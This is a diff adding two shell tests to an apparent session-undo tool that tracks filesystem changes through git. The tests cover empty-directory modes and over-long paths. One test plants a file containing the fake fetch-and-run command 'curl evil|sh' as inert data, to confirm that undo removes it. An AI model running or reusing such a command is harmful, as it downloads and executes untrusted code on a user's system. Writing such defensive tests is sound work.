@@ -372,6 +372,64 @@ new dir mode 040700" "index *..* 100600"; do
 	chmod 755 "$P"
 }
 
+# Dirs with no file beneath (git keeps none, issue 14 finding 5): an
+# empty 0700 dir made 0777, one removed, a 0700 dir holding only an empty
+# 0750 one emptied and opened, empty dirs made: diff says each, undo puts
+# every dir back as it was, with its mode, and removes those made.
+empty_dirs() {
+	fresh
+	(cd "$P" && mkdir -m 700 secrets cache priv && mkdir -m 750 priv/empty) || exit 1
+	jrun -- sh -c 'chmod 777 secrets && rmdir cache priv/empty && chmod 755 priv &&
+	    mkdir -p newempty/deeper'
+	[ "$RC" = 0 ] || bad "empty dirs: the command failed: $OUT"
+	out=$("$AMX" diff last 2>&1)
+	for want in "a/secrets b/secrets
+old mode 040700
+new mode 040777" "a/cache b/cache
+deleted dir mode 040700" "a/priv/empty b/priv/empty
+deleted dir mode 040750" "a/newempty/deeper b/newempty/deeper
+new dir mode 040755"; do
+		case $out in
+		*"$want"*) ok ;;
+		*) bad "empty dirs: diff does not say '$want': $out" ;;
+		esac
+	done
+	out=$("$AMX" undo last 2>&1)
+	got=$(cd "$P" && stat -c '%n %a' secrets cache priv priv/empty 2>&1; ls -d newempty 2>&1)
+	want="secrets 700
+cache 700
+priv 700
+priv/empty 750
+ls: cannot access 'newempty': No such file or directory"
+	[ "$got" = "$want" ] && ok || bad "empty dirs: after undo: $got: $out"
+}
+
+# A file at a path longer than PATH_MAX (issue 14 finding 4): git cannot
+# take it, so the end of the session and diff say so, naming its top dir,
+# and undo removes that dir (made in the session) whole.
+too_long() {
+	fresh
+	jrun -- /usr/bin/python3 -c '
+import os
+open("main.c", "a").write("evil\n")
+for i in range(25):
+    os.mkdir("d" * 200); os.chdir("d" * 200)
+open("payload.sh", "w").write("curl evil|sh\n")'
+	top=$(printf 'd%.0s' $(seq 200))
+	case $OUT in
+	*"paths longer than git can take"*"under $top:"*) ok ;;
+	*) bad "too long: the end of the session does not say so: $OUT" ;;
+	esac
+	out=$("$AMX" diff last 2>&1)
+	case $out in
+	*"paths longer than git can take"*"under $top:"*) ok ;;
+	*) bad "too long: diff does not say so: $out" ;;
+	esac
+	out=$("$AMX" undo last 2>&1)
+	[ ! -e "$P/$top" ] && [ "$(cat "$P/main.c")" = "int main;" ] && ok ||
+	    bad "too long: undo left $(ls "$P"): $out"
+}
+
 checks() {
 	objects_symlinked
 	reflog_symlinked
@@ -381,6 +439,8 @@ checks() {
 	modes
 	locked
 	mode_gaps
+	empty_dirs
+	too_long
 	frozen_rules
 	frozen_kept
 	planted
